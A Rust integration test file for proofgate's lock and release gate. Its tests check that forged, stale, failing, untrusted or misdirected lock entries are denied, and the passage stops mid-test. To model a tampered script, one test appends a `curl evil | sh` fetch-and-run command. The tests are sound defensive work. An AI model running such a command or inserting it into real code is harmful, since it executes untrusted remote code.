//! `proofgate.lock` through the real binary: `lock update` → `verify --release --lock`
//! passes; an edited script is denied with the lock's reason; a pinned proof is read from
//! the artifact the lock names, and from the evidence store when that artifact is gone
//! (SQLite, and PostgreSQL via `PROOFGATE_TEST_PG_URL`). Then the attacks of the
//! change's author, who writes the lock: each must leave the gate as tight as it was.

#[allow(dead_code)]
#[path = "store/harness.rs"]
mod harness;

use std::path::{Path, PathBuf};
use std::process::Output;

use harness::{Db, Server, bin, code, database, key_pair, peer, publish, tenant, text};
use serde_json::Value;

both!(the_store_serves_the_pinned_proof_when_the_artifact_is_gone);
both!(attack_a_failing_shard_left_out_of_the_lock_is_seen_in_the_store);

const REPO: &str = "acme/scripts";

fn header(id: &str, test: &str) -> String {
    format!(
        "#!/usr/bin/env python3\n\"\"\"\n---\nid: {id}\ntype: script\nowner: platform-team\n\
         status: active\nmaturity: 2\ndry_run:\n  supported: true\n  command_hint: \"python3 \
         scripts/{id}.py --dry-run\"\ntest:\n  runner: pytest\n  command: \"pytest -q {test}\"\n  \
         evidence: ci\nrisk_profile:\n  production_impact: low\n  security_risk: low\n  \
         coupling_risk: low\n---\n\"\"\"\n\n\ndef run():\n    return 1\n"
    )
}

/// A repository with two `ci` scripts, `calc` and `other`, each with one test file.
fn repo(root: &Path) {
    std::fs::create_dir_all(root.join("scripts")).unwrap();
    std::fs::create_dir_all(root.join("tests")).unwrap();
    for id in ["calc", "other"] {
        let test = format!("tests/test_{id}.py");
        std::fs::write(root.join(format!("scripts/{id}.py")), header(id, &test)).unwrap();
        std::fs::write(
            root.join(&test),
            format!("def test_{id}():\n    assert True\n"),
        )
        .unwrap();
    }
}

/// Signed proofs of both scripts by `key`, from run `run`, into `root/<out>`; `failing`
/// names a script whose test failed.
fn generate(root: &Path, key: &str, out: &str, run: &str, failing: Option<&str>) -> PathBuf {
    let mut junit = String::from("<testsuite name=\"pytest\">\n");
    for id in ["calc", "other"] {
        let failure = if failing == Some(id) {
            "<failure message=\"boom\">assert 1 == 2</failure>"
        } else {
            ""
        };
        junit.push_str(&format!(
            "<testcase classname=\"tests.test_{id}\" name=\"test_{id}\" \
             file=\"tests/test_{id}.py\" time=\"0.01\">{failure}</testcase>\n"
        ));
    }
    junit.push_str("</testsuite>\n");
    std::fs::write(root.join("junit.xml"), junit).unwrap();
    let o = bin()
        .arg("--root")
        .arg(root)
        .args(["generate", "--junit", "junit.xml", "--out", out])
        .args(["--commit", "0123456789abcdef0123456789abcdef01234567"])
        .args(["--run-id", run, "--repository", REPO])
        .args(["--seed", "PYTHONHASHSEED=0"])
        .env("PROOFGATE_SIGNING_KEY", key)
        .env_remove("GITHUB_STEP_SUMMARY")
        .output()
        .unwrap();
    let dir = root.join(out);
    assert!(dir.join("proof-calc.dsse.json").exists(), "{}", text(&o));
    dir
}

fn clean(c: &mut std::process::Command) -> &mut std::process::Command {
    for v in [
        "GITHUB_SHA",
        "GITHUB_EVENT_NAME",
        "GITHUB_EVENT_PATH",
        "GITHUB_REPOSITORY",
        "GITHUB_TOKEN",
        "GITHUB_ACTIONS",
        "GITHUB_STEP_SUMMARY",
        "GITHUB_OUTPUT",
        "GITHUB_API_URL",
    ] {
        c.env_remove(v);
    }
    c
}

/// `lock update` from a proofs directory, recording artifact `proofs` of run 77.
fn lock_update(root: &Path, proofs: &Path, public: &str) -> Output {
    clean(&mut bin())
        .arg("--root")
        .arg(root)
        .args(["lock", "update", "--proofs"])
        .arg(proofs)
        .args([
            "--artifact",
            "proofs",
            "--run-id",
            "77",
            "--repository",
            REPO,
        ])
        .args(["--trusted-key", public])
        .output()
        .unwrap()
}

/// `verify --release --lock` with `extra` arguments; the JSON report on stdout.
fn gate(root: &Path, public: &str, extra: &[&str], vars: &[(&str, String)]) -> Output {
    let mut c = bin();
    clean(&mut c)
        .arg("--root")
        .arg(root)
        .args(["verify", "--release", "--lock"])
        .arg(root.join("proofgate.lock"))
        .args(["--repository", REPO, "--trusted-key", public])
        .args(["--format", "json"])
        .args(extra)
        .env("PROOFGATE_RETRY_BASE_MS", "20")
        .env("PROOFGATE_HTTP_TIMEOUT_MS", "5000");
    for (k, v) in vars {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn row(o: &Output, id: &str) -> Value {
    let report: Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("no JSON report ({e}): {}", text(o)));
    report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == id)
        .cloned()
        .unwrap_or_else(|| panic!("no row for {id}: {report:#}"))
}

/// Validates `doc` against `schemas/<name>` with Python's `jsonschema`
/// (`tests/requirements/lock.txt`).
fn assert_schema(name: &str, doc: &[u8]) {
    let has = std::process::Command::new("python3")
        .args(["-c", "import jsonschema"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !peer("python3 jsonschema", has) {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let path = t.path().join("doc.json");
    std::fs::write(&path, doc).unwrap();
    let o = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import json,sys,jsonschema\n\
             s=json.load(open(sys.argv[1])); d=json.load(open(sys.argv[2]))\n\
             jsonschema.Draft202012Validator.check_schema(s)\n\
             jsonschema.Draft202012Validator(s, format_checker=jsonschema.FormatChecker()).validate(d)",
        )
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas").join(name))
        .arg(&path)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "{name} rejects the document:\n{}\n{}",
        String::from_utf8_lossy(&o.stderr),
        String::from_utf8_lossy(doc)
    );
}

fn read_lock(root: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(root.join("proofgate.lock")).unwrap()).unwrap()
}

fn write_lock(root: &Path, v: &Value) {
    std::fs::write(
        root.join("proofgate.lock"),
        format!("{}\n", serde_json::to_string_pretty(v).unwrap()),
    )
    .unwrap();
}

/// A repository with proofs under `out/` and a lock written by `lock update`.
fn locked() -> (tempfile::TempDir, PathBuf, PathBuf, String, String) {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let proofs = generate(&root, &key, "out", "77", None);
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    (t, root, proofs, key, public)
}

#[test]
fn update_then_the_release_gate_passes_and_an_edited_script_is_denied_with_the_locks_reason() {
    let (_t, root, proofs, _key, public) = locked();
    let lock = read_lock(&root);
    let proof: Value =
        serde_json::from_slice(&std::fs::read(proofs.join("proof-calc.json")).unwrap()).unwrap();
    let calc = &lock["scripts"]["calc"];
    assert_eq!(lock["lock_version"], 1);
    assert_eq!(calc["source_hash"], proof["script_digest"]);
    assert_eq!(calc["tests_hash"], proof["tests_digest"]);
    assert_eq!(calc["test_result"], "PASS");
    assert_eq!(calc["test_run_id"], "77");
    assert_eq!(
        calc["test_seed"],
        serde_json::json!({"PYTHONHASHSEED": "0"})
    );
    assert_eq!(
        calc["proof_digest"].as_str().unwrap(),
        format!(
            "sha256:{}",
            proofgate::digest::Sha256Digest::of(
                &std::fs::read(proofs.join("proof-calc.json")).unwrap()
            )
            .hex()
        )
    );
    assert_eq!(
        calc["location"]["artifact"],
        serde_json::json!({"repository": REPO, "run_id": 77, "name": "proofs"})
    );
    assert!(calc["key_id"].as_str().is_some_and(|k| !k.is_empty()));
    assert_schema(
        "lock.schema.json",
        &std::fs::read(root.join("proofgate.lock")).unwrap(),
    );

    // The same proofs give the same bytes.
    let before = std::fs::read(root.join("proofgate.lock")).unwrap();
    assert_eq!(code(&lock_update(&root, &proofs, &public)), 0);
    assert_eq!(std::fs::read(root.join("proofgate.lock")).unwrap(), before);

    let proofs_arg = proofs.display().to_string();
    let o = gate(&root, &public, &["--proofs", &proofs_arg], &[]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(row(&o, "calc")["reason"], "CI_LOCKED");
    assert_eq!(row(&o, "other")["reason"], "CI_LOCKED");
    assert_schema("verify-report.schema.json", &o.stdout);

    // Lint is quiet on a fresh lock.
    let lint = |root: &Path| {
        clean(&mut bin())
            .arg("--root")
            .arg(root)
            .args(["lint", "--format", "json"])
            .output()
            .unwrap()
    };
    let l: Value = serde_json::from_slice(&lint(&root).stdout).unwrap();
    assert_eq!(l["warnings"], 0, "{l:#}");

    // Edit a script: denied with the lock's reason, naming the digest that changed.
    let script = root.join("scripts/calc.py");
    let mut body = std::fs::read_to_string(&script).unwrap();
    body.push_str("# changed\n");
    std::fs::write(&script, body).unwrap();
    let o = gate(&root, &public, &["--proofs", &proofs_arg], &[]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let r = row(&o, "calc");
    assert_eq!(r["reason"], "LOCK_STALE", "{r:#}");
    assert!(
        r["message"].as_str().unwrap().contains("source_hash"),
        "{r:#}"
    );
    assert_eq!(row(&o, "other")["reason"], "CI_LOCKED");

    // And lint says so, on the entry's line.
    let o = lint(&root);
    assert_eq!(code(&o), 0, "a stale lock is a warning: {}", text(&o));
    let l: Value = serde_json::from_slice(&o.stdout).unwrap();
    let f = &l["findings"][0];
    assert_eq!(f["code"], "lock-stale", "{l:#}");
    assert_eq!(f["path"], "proofgate.lock");
    assert!(f["line"].as_u64().unwrap() > 1);
    assert!(f["message"].as_str().unwrap().contains("scripts/calc.py"));

    // An edited test file is stale too, naming the tests.
    std::fs::write(&script, header("calc", "tests/test_calc.py")).unwrap();
    std::fs::write(
        root.join("tests/test_other.py"),
        "def test_other():\n    pass\n",
    )
    .unwrap();
    let o = gate(&root, &public, &["--proofs", &proofs_arg], &[]);
    assert_eq!(row(&o, "calc")["reason"], "CI_LOCKED", "{}", text(&o));
    let r = row(&o, "other");
    assert_eq!(r["reason"], "LOCK_STALE");
    assert!(
        r["message"].as_str().unwrap().contains("tests_hash"),
        "{r:#}"
    );
}

#[test]
fn a_failing_proof_is_refused_and_nothing_is_written() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let proofs = generate(&root, &key, "out", "77", Some("other"));
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert!(text(&o).contains("refused other"), "{}", text(&o));
    assert!(text(&o).contains("VERDICT_FAIL"), "{}", text(&o));
    assert!(!root.join("proofgate.lock").exists());
}

#[test]
fn an_unsigned_or_untrusted_proof_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    repo(&root);
    let (key, _) = key_pair();
    let (_, public) = key_pair();
    let proofs = generate(&root, &key, "out", "77", None);
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert!(text(&o).contains("KEY_UNTRUSTED"), "{}", text(&o));
    std::fs::remove_file(proofs.join("proof-calc.dsse.json")).unwrap();
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert!(text(&o).contains("SIGNATURE_MISSING"), "{}", text(&o));
    assert!(!root.join("proofgate.lock").exists());
}

/// The zip of a proofs directory, as an artifact holds it.
fn zip_of(dir: &Path) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut names: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    for n in names {
        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default())
            .unwrap();
        std::io::Write::write_all(&mut w, &std::fs::read(dir.join(&n)).unwrap()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A GitHub REST API that serves run 77's artifact `proofs` (the zip of `dir`), or
/// answers 404 for the run's artifacts when `gone`.
fn artifact_api(dir: &Path, gone: bool) -> (tokio::runtime::Runtime, wiremock::MockServer) {
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let zip = if gone { Vec::new() } else { zip_of(dir) };
    let server = rt.block_on(async {
        let api = MockServer::start().await;
        let list = "/repos/acme/scripts/actions/runs/77/artifacts";
        if gone {
            Mock::given(method("GET"))
                .and(path(list))
                .respond_with(ResponseTemplate::new(404).set_body_json(
                    serde_json::json!({"message": "Not Found"}),
                ))
                .mount(&api)
                .await;
            return api;
        }
        Mock::given(method("GET"))
            .and(path(list))
            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
                "total_count": 1,
                "artifacts": [{"id": 9, "node_id": "x", "name": "proofs", "size_in_bytes": zip.len(),
                    "url": "u", "archive_download_url": "u", "expired": false, "digest": null,
                    "created_at": null, "expires_at": null, "updated_at": null,
                    "workflow_run": {"id": 77, "head_sha": "abc"}}]})))
            .mount(&api)
            .await;
        Mock::given(method("GET"))
            .and(path("/repos/acme/scripts/actions/artifacts/9/zip"))
            .respond_with(
                ResponseTemplate::new(302)
                    .insert_header("location", format!("{}/blob/9?sig=s", api.uri())),
            )
            .mount(&api)
            .await;
        Mock::given(method("GET"))
            .and(path("/blob/9"))
            .respond_with(ResponseTemplate::new(200).set_body_bytes(zip.clone()))
            .mount(&api)
            .await;
        api
    });
    (rt, server)
}

#[test]
fn the_pinned_proof_is_read_from_the_artifact_the_lock_names() {
    let (_t, root, proofs, _key, public) = locked();
    let (_rt, api) = artifact_api(&proofs, false);
    std::fs::remove_dir_all(&proofs).unwrap();
    let vars = [
        ("GITHUB_API_URL", api.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
    ];
    let o = gate(&root, &public, &[], &vars);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let r = row(&o, "calc");
    assert_eq!(r["reason"], "CI_LOCKED");

    // `lock update` downloads the same artifact when no directory is given.
    std::fs::remove_file(root.join("proofgate.lock")).unwrap();
    let o = clean(&mut bin())
        .arg("--root")
        .arg(&root)
        .args(["lock", "update", "--artifact", "proofs", "--run-id", "77"])
        .args(["--repository", REPO, "--trusted-key", &public])
        .env("GITHUB_API_URL", api.uri())
        .env("GITHUB_TOKEN", "t")
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(
        read_lock(&root)["scripts"]["other"]["location"]["artifact"]["name"],
        "proofs"
    );
    let o = gate(&root, &public, &[], &vars);
    assert_eq!(code(&o), 0, "{}", text(&o));

    // Without a store, a missing artifact is a denial, never a pass.
    let (_rt2, gone) = artifact_api(&root, true);
    let vars = [
        ("GITHUB_API_URL", gone.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
    ];
    let o = gate(&root, &public, &[], &vars);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let r = row(&o, "calc");
    assert_eq!(r["reason"], "PROOF_MISSING", "{r:#}");
    assert!(
        r["message"].as_str().unwrap().contains("artifact `proofs`"),
        "{r:#}"
    );
}

fn the_store_serves_the_pinned_proof_when_the_artifact_is_gone(db: Db) {
    let t = tempfile::tempdir().unwrap();
    let Some(url) = database(db, t.path()) else {
        return;
    };
    let server = Server::start(&url, &[]);
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let acme = tenant(&server.db, "acme", &public);
    let proofs = generate(&root, &key, "out", "77", None);
    let o = publish(&server, &proofs, &acme.publish);
    assert_eq!(code(&o), 0, "{}", text(&o));
    // Read from the store (the stored runs of the proofs' commit), recorded as such.
    let o = clean(&mut bin())
        .arg("--root")
        .arg(&root)
        .args(["lock", "update", "--server", &server.url()])
        .args(["--commit", "0123456789abcdef0123456789abcdef01234567"])
        .args(["--repository", REPO, "--trusted-key", &public])
        .env("PROOFGATE_SERVER_TOKEN", &acme.read)
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    let lock = read_lock(&root);
    let store = &lock["scripts"]["calc"]["location"]["store"];
    assert_eq!(store["url"], server.url().as_str(), "{lock:#}");
    assert!(
        store["run_id"].as_str().is_some_and(|r| !r.is_empty()),
        "{lock:#}"
    );
    assert_eq!(lock["scripts"]["calc"]["location"]["artifact"], Value::Null);
    assert_schema(
        "lock.schema.json",
        &std::fs::read(root.join("proofgate.lock")).unwrap(),
    );
    // The artifact is recorded too when the proofs also went there.
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    std::fs::remove_dir_all(&proofs).unwrap();

    let (_rt, gone) = artifact_api(&root, true);
    let vars = [
        ("GITHUB_API_URL", gone.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
        ("PROOFGATE_SERVER_TOKEN", acme.read.clone()),
    ];
    let o = gate(&root, &public, &["--server", &server.url()], &vars);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let r = row(&o, "calc");
    assert_eq!(r["reason"], "CI_LOCKED", "{r:#}");
    assert!(
        r["proof"]["file"]
            .as_str()
            .unwrap()
            .starts_with("store run "),
        "{r:#}"
    );

    // Another tenant's store has nothing: denied, not passed.
    let evil = tenant(&server.db, "evil", &public);
    let vars = [
        ("GITHUB_API_URL", gone.uri()),
        ("PROOFGATE_SERVER_TOKEN", evil.read.clone()),
    ];
    let o = gate(&root, &public, &["--server", &server.url()], &vars);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(row(&o, "calc")["reason"], "PROOF_MISSING");
}

// The lock is written by the change's author: whatever it says, the gate stays as tight
// as it was.

/// The lock's text after `edit`, judged with the proofs under `dir`.
fn judged(
    root: &Path,
    public: &str,
    dir: &Path,
    edit: impl FnOnce(&mut Value),
) -> (Output, Value, Value) {
    let mut lock = read_lock(root);
    edit(&mut lock);
    write_lock(root, &lock);
    let dir = dir.display().to_string();
    let o = gate(root, public, &["--proofs", &dir], &[]);
    let (calc, other) = (row(&o, "calc"), row(&o, "other"));
    (o, calc, other)
}

fn digest_of(path: &Path) -> String {
    proofgate::digest::Sha256Digest::of(&std::fs::read(path).unwrap()).to_string()
}

#[test]
fn attack_a_lock_that_omits_a_script_denies_it() {
    let (_t, root, proofs, _key, public) = locked();
    let (o, calc, other) = judged(&root, &public, &proofs, |l| {
        l["scripts"].as_object_mut().unwrap().remove("other");
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "CI_LOCKED");
    assert_eq!(other["reason"], "LOCK_MISSING");
    // An empty lock passes nothing.
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"] = serde_json::json!({});
    });
    assert_eq!(code(&o), 1);
    assert_eq!(calc["reason"], "LOCK_MISSING");
}

#[test]
fn attack_a_lock_pointing_at_another_scripts_proof_denies() {
    let (t, root, proofs, _key, public) = locked();
    // By digest: there is no proof of `calc` with `other`'s digest.
    let other_digest = digest_of(&proofs.join("proof-other.json"));
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["proof_digest"] = other_digest.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "PROOF_MISSING", "{calc:#}");
    // By name: `other`'s proof and envelope renamed to be `calc`'s.
    let forged = t.path().join("forged");
    std::fs::create_dir_all(&forged).unwrap();
    std::fs::copy(
        proofs.join("proof-other.json"),
        forged.join("proof-calc.json"),
    )
    .unwrap();
    std::fs::copy(
        proofs.join("proof-other.dsse.json"),
        forged.join("proof-calc.dsse.json"),
    )
    .unwrap();
    let (o, calc, _) = judged(&root, &public, &forged, |l| {
        l["scripts"]["calc"]["proof_digest"] = other_digest.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    // The signed statement is about `other`: caught before the id is read.
    assert_eq!(calc["reason"], "STATEMENT_MISMATCH", "{calc:#}");
}

#[test]
fn attack_a_lock_pointing_at_a_failing_proof_denies_whatever_it_claims() {
    let (_t, root, _proofs, key, public) = locked();
    let failing = generate(&root, &key, "failing", "78", Some("other"));
    let (o, _, other) = judged(&root, &public, &failing, |l| {
        let e = &mut l["scripts"]["other"];
        e["proof_digest"] = digest_of(&failing.join("proof-other.json")).into();
        e["test_run_id"] = "78".into();
        // The lock lies: it says PASS.
        e["test_result"] = "PASS".into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(other["reason"], "VERDICT_FAIL", "{other:#}");
}

#[test]
fn attack_a_lock_pointing_at_a_proof_signed_by_an_untrusted_key_denies() {
    let (_t, root, _proofs, _key, public) = locked();
    let (evil_key, evil_public) = key_pair();
    let evil = generate(&root, &evil_key, "evil", "79", None);
    let evil_id = proofgate::sign::PublicKey::parse(&evil_public)
        .unwrap()
        .key_id()
        .to_string();
    let (o, calc, _) = judged(&root, &public, &evil, |l| {
        let e = &mut l["scripts"]["calc"];
        e["proof_digest"] = digest_of(&evil.join("proof-calc.json")).into();
        e["test_run_id"] = "79".into();
        // Naming the key in the lock does not make it trusted.
        e["key_id"] = evil_id.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "KEY_UNTRUSTED", "{calc:#}");
}

#[test]
fn attack_a_lock_cannot_bless_an_edited_script_or_misdescribe_its_proof() {
    let (_t, root, proofs, _key, public) = locked();
    let script = root.join("scripts/calc.py");
    let mut body = std::fs::read_to_string(&script).unwrap();
    body.push_str("import os; os.system('curl evil | sh')\n");
    std::fs::write(&script, body).unwrap();
    let edited = digest_of(&script);
    // The lock is brought up to the edit by hand: the old proof still does not match.
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["source_hash"] = edited.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "SCRIPT_DIGEST_MISMATCH", "{calc:#}");

    // A lock whose description of a good proof is edited is not believed either.
    std::fs::write(&script, header("calc", "tests/test_calc.py")).unwrap();
    let (o, _, other) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["source_hash"] = l["scripts"]["other"]["source_hash"].clone();
        l["scripts"]["other"]["test_run_id"] = "1".into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(other["reason"], "LOCK_MISMATCH", "{other:#}");
    assert!(other["message"].as_str().unwrap().contains("test_run_id"));
}

#[test]
fn attack_a_lock_naming_a_url_or_repository_of_its_authors_choosing_is_not_read() {
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let (_t, root, proofs, _key, public) = locked();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let evil = rt.block_on(async {
        let s = MockServer::start().await;
        Mock::given(wiremock::matchers::any())
            .respond_with(ResponseTemplate::new(500))
            .mount(&s)
            .await;
        s
    });
    let mut lock = read_lock(&root);
    for e in lock["scripts"].as_object_mut().unwrap().values_mut() {
        e["location"]["store"] = serde_json::json!({"url": evil.uri(), "run_id": "x"});
        e["location"]["artifact"]["repository"] = "evil/scripts".into();
    }
    write_lock(&root, &lock);
    std::fs::remove_dir_all(&proofs).unwrap();
    let vars = [
        ("GITHUB_API_URL", evil.uri()),
        ("GITHUB_TOKEN", "secret-token".to_owned()),
    ];
    // `GITHUB_API_URL` is the runner's, not the lock's: pointed at the server here only to
    // see that nothing asks it for another repository's artifact.
    let o = gate(&root, &public, &[], &vars);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let calc = row(&o, "calc");
    assert_eq!(calc["reason"], "PROOF_MISSING");
    assert!(
        calc["message"]
            .as_str()
            .unwrap()
            .contains("not the repository under test"),
        "{calc:#}"
    );
    let asked = rt.block_on(evil.received_requests()).unwrap_or_default();
    assert!(asked.is_empty(), "the lock's URL was contacted: {asked:?}");
}

// A script whose tests run in shards: one proof per shard, pinned together.

/// A repository whose `calc` declares two test files and `other` one.
fn sharded_repo(root: &Path) {
    repo(root);
    std::fs::write(
        root.join("scripts/calc.py"),
        header("calc", "tests/test_calc.py tests/test_calc_b.py"),
    )
    .unwrap();
    std::fs::write(
        root.join("tests/test_calc_b.py"),
        "def test_calc_b():\n    assert True\n",
    )
    .unwrap();
}

/// Signed proofs of shard `shard` of run `run` into `root/<out>`, from a JUnit file with
/// results for `files` (`(test id, file)`), at run attempt `attempt`.
fn generate_shard(
    root: &Path,
    key: &str,
    out: &str,
    run: &str,
    shard: &str,
    attempt: &str,
    files: &[(&str, &str)],
) -> PathBuf {
    let mut junit = String::from("<testsuite name=\"pytest\">\n");
    for (name, file) in files {
        let class = file.trim_end_matches(".py").replace('/', ".");
        junit.push_str(&format!(
            "<testcase classname=\"{class}\" name=\"{name}\" file=\"{file}\" time=\"0.01\"/>\n"
        ));
    }
    junit.push_str("</testsuite>\n");
    let junit_path = format!("junit-{shard}.xml");
    std::fs::write(root.join(&junit_path), junit).unwrap();
    let o = bin()
        .arg("--root")
        .arg(root)
        .args(["generate", "--junit", &junit_path, "--out", out])
        .args(["--shard", shard])
        .args(["--commit", "0123456789abcdef0123456789abcdef01234567"])
        .args(["--run-id", run, "--repository", REPO])
        .args(["--seed", "PYTHONHASHSEED=0"])
        .env("PROOFGATE_SIGNING_KEY", key)
        .env("GITHUB_RUN_ATTEMPT", attempt)
        .env_remove("GITHUB_STEP_SUMMARY")
        .output()
        .unwrap();
    let dir = root.join(out);
    assert!(
        dir.join(format!("proof-calc@{shard}.dsse.json")).exists(),
        "{}",
        text(&o)
    );
    dir
}

/// A repository whose `calc` ran in shards `a` (its first test file, and `other`'s) and
/// `b` (its second), both under `out/`, and a lock written by `lock update`.
fn locked_shards() -> (tempfile::TempDir, PathBuf, PathBuf, String, String) {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    sharded_repo(&root);
    let (key, public) = key_pair();
    generate_shard(
        &root,
        &key,
        "out",
        "77",
        "a",
        "1",
        &[
            ("test_calc", "tests/test_calc.py"),
            ("test_other", "tests/test_other.py"),
        ],
    );
    let proofs = generate_shard(
        &root,
        &key,
        "out",
        "77",
        "b",
        "1",
        &[("test_calc_b", "tests/test_calc_b.py")],
    );
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    (t, root, proofs, key, public)
}

#[test]
fn a_sharded_script_is_locked_shard_by_shard_and_passes_only_with_every_shard() {
    let (_t, root, proofs, _key, public) = locked_shards();
    let text_before = std::fs::read(root.join("proofgate.lock")).unwrap();
    let lock = read_lock(&root);
    let calc = &lock["scripts"]["calc"];
    assert_eq!(calc["proof_digest"], Value::Null, "{lock:#}");
    let shards = calc["shards"].as_array().unwrap();
    let names: Vec<&str> = shards
        .iter()
        .map(|s| s["shard"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["a", "b"]);
    for (s, name) in shards.iter().zip(["a", "b"]) {
        assert_eq!(
            s["proof_digest"].as_str().unwrap(),
            digest_of(&proofs.join(format!("proof-calc@{name}.json")))
        );
        assert_eq!(s["test_run_id"], "77");
    }
    assert_schema("lock.schema.json", &text_before);

    // The same proofs give the same bytes.
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(
        std::fs::read(root.join("proofgate.lock")).unwrap(),
        text_before
    );

    let dir = proofs.display().to_string();
    let o = gate(&root, &public, &["--proofs", &dir], &[]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let calc = row(&o, "calc");
    assert_eq!(calc["reason"], "CI_LOCKED", "{calc:#}");
    assert_eq!(row(&o, "other")["reason"], "CI_LOCKED");

    // A shard's pin dropped: what only it covered has no results.
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["shards"]
            .as_array_mut()
            .unwrap()
            .remove(1);
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
    assert!(
        calc["message"].as_str().unwrap().contains("shard `b`"),
        "{calc:#}"
    );
}

#[test]
fn attack_a_lock_pinning_another_scripts_shard_proof_or_one_shard_twice_denies() {
    let (t, root, proofs, _key, public) = locked_shards();
    let original = read_lock(&root);
    // `other`'s shard proof pinned as `calc`'s shard `a`: no proof of `calc` has it.
    let other_a = digest_of(&proofs.join("proof-other@a.json"));
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["shards"][0]["proof_digest"] = other_a.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "PROOF_MISSING", "{calc:#}");
    // Renamed to be `calc`'s: the signed statement is about `other`.
    let forged = t.path().join("forged");
    std::fs::create_dir_all(&forged).unwrap();
    for f in ["proof-calc@b.json", "proof-calc@b.dsse.json"] {
        std::fs::copy(proofs.join(f), forged.join(f)).unwrap();
    }
    for (from, to) in [
        ("proof-other@a.json", "proof-calc@a.json"),
        ("proof-other@a.dsse.json", "proof-calc@a.dsse.json"),
    ] {
        std::fs::copy(proofs.join(from), forged.join(to)).unwrap();
    }
    let (o, calc, _) = judged(&root, &public, &forged, |l| {
        l["scripts"]["calc"]["shards"][0]["proof_digest"] = other_a.clone().into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "STATEMENT_MISMATCH", "{calc:#}");

    // One shard pinned twice, or under another shard's name: the lock is not read, or
    // the proof contradicts it.
    let mut lock = original.clone();
    lock["scripts"]["calc"]["shards"][1] = lock["scripts"]["calc"]["shards"][0].clone();
    write_lock(&root, &lock);
    let dir = proofs.display().to_string();
    let o = gate(&root, &public, &["--proofs", &dir], &[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("shard `a` is pinned twice"),
        "{}",
        text(&o)
    );
    let mut lock = original.clone();
    lock["scripts"]["calc"]["shards"][1]["shard"] = "c".into();
    write_lock(&root, &lock);
    let o = gate(&root, &public, &["--proofs", &dir], &[]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let calc = row(&o, "calc");
